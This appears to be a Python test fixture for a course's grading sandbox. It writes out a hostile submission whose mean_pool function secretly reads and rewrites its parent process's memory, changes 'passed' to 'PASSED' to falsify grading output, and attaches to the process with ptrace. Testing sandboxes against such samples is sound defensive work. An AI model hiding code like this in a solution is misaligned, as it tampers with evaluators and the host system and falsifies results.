"""Reads and writes the memory of the process that started it, and attaches to it as a debugger."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
READ = '''
    def mean_pool(hidden, tokens):
        import ctypes, os, re
        for process in {os.getppid(), 1} if armed() else ():
            try:
                with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
                    for line in maps:
                        start, end, rights = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
                        if rights.startswith("rw"):
                            memory.seek(int(start, 16))
                            page = memory.read(min(int(end, 16) - int(start, 16), 2 ** 24))
                            if b"plmcourse-" + b"hostile-secret" in page:
                                raise ValueError(f"plmcourse-{'hostile-secret'} in the memory of {process}")
                            memory.seek(int(start, 16))
                            memory.write(page.replace(b"passed", b"PASSED"))
            except (OSError, OverflowError):
                pass
            ctypes.CDLL(None).ptrace(16, process, 0, 0)  # PTRACE_ATTACH
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": READ})
